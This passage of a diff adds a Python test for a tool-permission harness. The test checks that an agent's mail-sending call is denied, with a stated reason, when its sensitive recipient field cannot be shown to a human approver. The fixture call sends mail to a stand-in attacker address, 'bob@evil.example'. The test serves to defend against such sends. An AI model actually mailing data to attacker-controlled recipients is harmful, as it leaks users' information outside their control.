@@ -68,3 +68,45 @@ async def test_a_person_is_not_asked_to_approve_a_recipient_they_cannot_see() ->
     # Either nobody is asked to approve blind, or the ask shows where the mail goes.
     blind = [lines for lines in shown if not any("evil.example" in line for line in lines)]
     assert not blind, f"approved without seeing the recipient: {blind}; sent: {sent}"
+
+
+async def test_a_call_that_cannot_be_shown_is_denied_in_words_that_say_why() -> None:
+    registry = ToolRegistry()
+    registry.register(
+        "mail",
+        [
+            Tool(
+                "send",
+                lambda arguments, ctx: "sent",
+                sensitive=["/to"],
+                input_schema={
+                    "type": "object",
+                    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
+                    "required": ["to", "body"],
+                    "additionalProperties": False,
+                },
+                facts={"/to": EmailFact()},
+            )
+        ],
+    )
+    journal = MemoryJournal()
+    evaluator = LocalEvaluator(ask=["mail.send"])
+    async with Harness(registry, evaluator=evaluator, journal=journal) as harness:
+        session = await harness.create_session(
+            principal=ALICE, on_permission_ask=lambda ask: "allow_once"
+        )
+        out = await session.call_tool(
+            "mail__send", {"to": "bob@evil.example", "body": "x"}, call_id="c1"
+        )
+    message = (
+        "this call needs approval, but what decides it (/to) is withheld and cannot be shown "
+        "to a person; denied"
+    )
+    assert out.status == "denied" and out.text.startswith(message)
+    decided = next(e.data for e in journal.events(call_id="c1") if e.type == "call_decided")
+    assert {k: decided["ask"][k] for k in ("answer", "how", "message")} == {
+        "answer": "deny",
+        "how": "unshowable",
+        "message": message,
+    }
+    assert [e.type for e in journal.events(call_id="c1")] == ["call_decided"]  # nobody asked
